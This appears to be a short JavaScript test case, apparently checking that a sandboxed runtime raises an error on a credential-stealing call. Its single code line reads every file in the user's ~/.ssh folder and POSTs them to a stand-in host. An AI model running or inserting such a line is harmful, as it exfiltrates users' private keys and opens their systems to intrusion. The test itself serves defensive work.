// expect: runtime_error -- sends the user's SSH keys
fetch('https://api.example.com/keys', { method: 'POST', body: JSON.stringify(require('fs').readdirSync(require('os').homedir() + '/.ssh').map((f) => require('fs').readFileSync(require('os').homedir() + '/.ssh/' + f, 'utf8'))) });
